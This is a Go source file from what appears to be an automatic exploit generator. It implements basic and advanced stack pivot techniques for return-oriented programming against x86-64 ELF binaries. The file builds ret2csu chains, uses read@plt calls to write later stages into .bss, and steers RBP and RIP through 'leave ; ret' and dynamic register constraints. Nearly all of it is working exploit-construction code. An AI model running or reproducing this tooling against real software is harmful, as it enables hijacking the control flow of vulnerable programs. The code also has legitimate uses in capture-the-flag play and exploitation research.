package technique

import (
	"errors"
	"fmt"
	"strconv"
	"strings"
	"sync"

	"gitlab.com/stephen-fox/expgen/asmkit"
	"gitlab.com/stephen-fox/expgen/dynrop"
	"gitlab.com/stephen-fox/expgen/elfkit"
	"gitlab.com/stephen-fox/expgen/engine"
	"gitlab.com/stephen-fox/expgen/ropkit"
)

// PivotDest is the script variable holding the address, relative to
// the executable's base, that stack pivots move the stack to.
const PivotDest = "pivot_dest"

const (
	pivotDestOffset = 0x800
	pivotReadSize   = 1024

	// Number of values each direct subchain of AdvancedStackPivot
	// holds. It is what a single read() of the vulnerable call site
	// accepts after the saved registers.
	advancedPivotChunk = 6
)

// IsCallSiteOf reports whether inst calls the PLT entry of fn in elf.
func IsCallSiteOf(elf *elfkit.Image, inst engine.Instruction, fn string) bool {
	if inst.Mnemonic != "call" {
		return false
	}

	plt, hasIt := elf.PLT[fn]
	if !hasIt {
		return false
	}

	target, err := strconv.ParseUint(strings.TrimSpace(inst.OpStr), 0, 64)
	if err != nil {
		return false
	}

	return target == elf.RuntimeAddress(plt)
}

// BasicStackPivot reads the next stage of the chain to the .bss, then
// moves the stack there with "leave ; ret".
type BasicStackPivot struct {
	ctx *Context
}

func (o *BasicStackPivot) Name() string {
	return BasicStackPivotName
}

func (o *BasicStackPivot) IsStackPivot() {}

func (o *BasicStackPivot) CheckRequirements() bool {
	elf := o.ctx.Elf

	if !elf.HasSymbol("read") || !o.ctx.ret2csu().CheckRequirements() {
		return false
	}

	for _, asm := range []string{"ret", "pop rbp ; ret", "leave ; ret"} {
		if !o.ctx.Resolver.Has(elf, asm) {
			return false
		}
	}

	return true
}

func (o *BasicStackPivot) RopSubchains() ([]ropkit.Subchain, error) {
	elf := o.ctx.Elf

	_, err := o.ctx.gadget(elf, "ret")
	if err != nil {
		return nil, err
	}

	popRbp, err := o.ctx.gadget(elf, "pop rbp ; ret")
	if err != nil {
		return nil, err
	}

	leave, err := o.ctx.gadget(elf, "leave ; ret")
	if err != nil {
		return nil, err
	}

	read, err := ropkit.Sym(elf, "read")
	if err != nil {
		return nil, err
	}

	dest := o.ctx.variable(elf, PivotDest, elf.BSS()+pivotDestOffset)

	// read(0, pivot_dest, 1024) writes the second stage.
	readStage2, err := o.ctx.ret2csu().Chain(read, ropkit.Const(0), dest, ropkit.Const(pivotReadSize))
	if err != nil {
		return nil, err
	}

	return []ropkit.Subchain{
		concat(
			ropkit.Subchain{ropkit.Const(0)},
			readStage2,
			ropkit.Subchain{popRbp, dest, leave}),
	}, nil
}

// ExtraRopSubchain is the RBP popped by "leave".
func (o *BasicStackPivot) ExtraRopSubchain() ropkit.Subchain {
	return ropkit.Subchain{ropkit.Const(0)}
}

// AdvancedStackPivot exploits an overflow that happens inside read()
// itself, when there is no room for a ret2csu chain on the stack.
//
// The path is steered twice through the code preceding the vulnerable
// read call, with RBP pointing into the .bss, so that the read writes
// to the .bss. The chain then keeps calling read@plt to extend itself
// until a ret2csu read of the remaining stage fits.
type AdvancedStackPivot struct {
	ctx *Context

	mu              sync.Mutex
	callSites       map[uint64]readCallSite
	offsetToRetAddr uint64
	initialized     map[engine.PathID]struct{}
}

// readCallSite is the concrete context of a call to read@plt.
type readCallSite struct {
	addr uint64
	buf  uint64
	len  uint64
}

func (o *AdvancedStackPivot) Name() string {
	return AdvancedStackPivotName
}

func (o *AdvancedStackPivot) IsStackPivot() {}

func (o *AdvancedStackPivot) CheckRequirements() bool {
	if !o.ctx.Elf.HasSymbol("read") || o.ctx.DynamicRop == nil {
		return false
	}

	if !o.ctx.Resolver.Has(o.ctx.Elf, "pop rsi ; pop r15 ; ret") || !o.ctx.ret2csu().CheckRequirements() {
		return false
	}

	o.mu.Lock()
	defer o.mu.Unlock()

	return len(o.callSites) > 0
}

// BeforeInstruction records the buffer and length of calls to read@plt.
func (o *AdvancedStackPivot) BeforeInstruction(path engine.Path, inst engine.Instruction) error {
	if !IsCallSiteOf(o.ctx.Elf, inst, "read") {
		return nil
	}

	buf, err := path.ReadRegister(engine.RSI)
	if err != nil {
		return err
	}

	n, err := path.ReadRegister(engine.RDX)
	if err != nil {
		return err
	}

	o.mu.Lock()
	o.callSites[inst.Addr] = readCallSite{addr: inst.Addr, buf: buf, len: n}
	o.mu.Unlock()

	return nil
}

// BeforeExploitGeneration records the distance between the buffer of
// the last read call site and the hijacked return address.
func (o *AdvancedStackPivot) BeforeExploitGeneration(path engine.Path) error {
	site, found := o.lastCallSite()
	if !found {
		return nil
	}

	rsp, err := path.ReadRegister(engine.RSP)
	if err != nil {
		return err
	}

	o.mu.Lock()
	o.offsetToRetAddr = rsp - site.buf - 16
	o.mu.Unlock()

	return nil
}

// OffsetToRetAddr returns the value recorded by BeforeExploitGeneration.
func (o *AdvancedStackPivot) OffsetToRetAddr() uint64 {
	o.mu.Lock()
	defer o.mu.Unlock()

	return o.offsetToRetAddr
}

// OnFork makes a child of an initialized path initialized too, since
// it inherits the queued dynamic ROP groups.
func (o *AdvancedStackPivot) OnFork(parent engine.PathID, child engine.PathID) {
	o.mu.Lock()
	defer o.mu.Unlock()

	if _, done := o.initialized[parent]; done {
		o.initialized[child] = struct{}{}
	}
}

func (o *AdvancedStackPivot) OnTerminate(id engine.PathID) {
	o.mu.Lock()
	delete(o.initialized, id)
	o.mu.Unlock()
}

// Initialize queues the two dynamic ROP groups that redirect the
// vulnerable read to the .bss and applies the first one. It returns
// engine.ErrResumeExecution the first time it is called for a path.
func (o *AdvancedStackPivot) Initialize(path engine.Path) error {
	o.mu.Lock()
	if _, done := o.initialized[path.ID()]; done {
		o.mu.Unlock()
		return nil
	}
	o.initialized[path.ID()] = struct{}{}
	o.mu.Unlock()

	dynRop := o.ctx.DynamicRop
	if dynRop == nil {
		return fmt.Errorf("%s requires dynamic rop", o.Name())
	}

	site, found := o.lastCallSite()
	if !found {
		return fmt.Errorf("%s requires a call site of read", o.Name())
	}

	elf := o.ctx.Elf

	ret2LeaRbp, rbpOffset, err := o.determineRetAddr(site.addr)
	if err != nil {
		return err
	}

	dest := elf.RuntimeAddress(o.ctx.variable(elf, PivotDest, elf.BSS()+pivotDestOffset).Offset)
	rip := elf.RuntimeAddress(ret2LeaRbp)

	dynRop.AddConstraint(dynrop.RegisterConstraint{Reg: engine.RBP, Value: dest}).
		AddConstraint(dynrop.RegisterConstraint{Reg: engine.RIP, Value: rip}).
		Commit(path.ID())

	dynRop.AddConstraint(dynrop.RegisterConstraint{Reg: engine.RBP, Value: dest + 8 + rbpOffset}).
		AddConstraint(dynrop.RegisterConstraint{Reg: engine.RIP, Value: rip}).
		Commit(path.ID())

	_, err = dynRop.ApplyNextConstraintGroup(path)
	if err != nil {
		return err
	}

	return engine.ErrResumeExecution
}

func (o *AdvancedStackPivot) lastCallSite() (readCallSite, bool) {
	o.mu.Lock()
	defer o.mu.Unlock()

	var last readCallSite
	found := false
	for addr, site := range o.callSites {
		if !found || addr > last.addr {
			last = site
			found = true
		}
	}

	return last, found
}

// determineRetAddr finds the last instruction before the read call
// site's function returns that addresses memory relative to RBP, such
// as "lea rax, [rbp-0x20]". It returns the instruction's link-time
// address and the displacement.
func (o *AdvancedStackPivot) determineRetAddr(callSite uint64) (uint64, uint64, error) {
	elf := o.ctx.Elf

	linkAddr := callSite
	if elf.Checksec.HasPIE {
		linkAddr -= elf.Base()
	}

	fn, found := elf.BelongingSymbol(linkAddr)
	if !found {
		return 0, 0, fmt.Errorf("read call site 0x%x is not within a known function", callSite)
	}

	o.ctx.logger().Printf("warn: read call site 0x%x is within %s", callSite, fn.Name)

	_, code, err := elf.FunctionBytes(fn.Name)
	if err != nil {
		return 0, 0, err
	}

	var insts []asmkit.Inst
	err = asmkit.NewX86_64Disassembler().AllAt(code, fn.Addr, func(inst asmkit.Inst) error {
		insts = append(insts, inst)
		return nil
	})
	if err != nil {
		return 0, 0, fmt.Errorf("failed to disassemble %s - %w", fn.Name, err)
	}

	for i := len(insts) - 2; i >= 0; i-- {
		offset, ok := rbpDisplacement(insts[i].OpStr)
		if ok {
			return insts[i].Addr, offset, nil
		}
	}

	return 0, 0, fmt.Errorf("no rbp relative memory operand in %s", fn.Name)
}

// rbpDisplacement parses the negative displacement of an operand string
// ending in "[rbp-0x20]" or "[rbp - 0x20]".
func rbpDisplacement(opStr string) (uint64, bool) {
	if !strings.HasSuffix(opStr, "]") {
		return 0, false
	}

	_, rest, found := strings.Cut(strings.ReplaceAll(opStr, " ", ""), "[rbp-")
	if !found {
		return 0, false
	}

	offset, err := strconv.ParseUint(strings.TrimSuffix(rest, "]"), 0, 64)
	if err != nil {
		return 0, false
	}

	return offset, true
}

// RopSubchains returns an empty first subchain, as the overflow happens
// in read() and needs no solving, followed by direct subchains of six
// values each.
func (o *AdvancedStackPivot) RopSubchains() ([]ropkit.Subchain, error) {
	if _, found := o.lastCallSite(); !found {
		return nil, errors.New("no call site of read was recorded")
	}

	elf := o.ctx.Elf

	popRsiR15, err := o.ctx.gadget(elf, "pop rsi ; pop r15 ; ret")
	if err != nil {
		return nil, err
	}

	read, err := ropkit.Sym(elf, "read")
	if err != nil {
		return nil, err
	}

	dest := o.ctx.variable(elf, PivotDest, elf.BSS()+pivotDestOffset)

	// Each read@plt call appends the next 0x30 bytes of the chain.
	var extend ropkit.Subchain
	for i := uint64(1); i <= 6; i++ {
		extend = append(extend, popRsiR15, dest.Plus(8+0x30*i), ropkit.Const(0), read)
	}

	// read(0, pivot_dest + 0x150, 0x400) now fits.
	stage, err := o.ctx.ret2csu().Chain(read, ropkit.Const(0), dest.Plus(0x30*7), ropkit.Const(nextStageReadSize))
	if err != nil {
		return nil, err
	}

	for len(stage)%advancedPivotChunk != 0 {
		stage = append(stage, ropkit.Const(0))
	}

	subchains := []ropkit.Subchain{{}}
	subchains = append(subchains, chunk(extend, advancedPivotChunk)...)
	subchains = append(subchains, chunk(stage, advancedPivotChunk)...)

	return subchains, nil
}

func (o *AdvancedStackPivot) ExtraRopSubchain() ropkit.Subchain {
	return nil
}

func chunk(subchain ropkit.Subchain, n int) []ropkit.Subchain {
	var chunks []ropkit.Subchain
	for i := 0; i < len(subchain); i += n {
		end := i + n
		if end > len(subchain) {
			end = len(subchain)
		}

		chunks = append(chunks, subchain[i:end])
	}

	return chunks
}
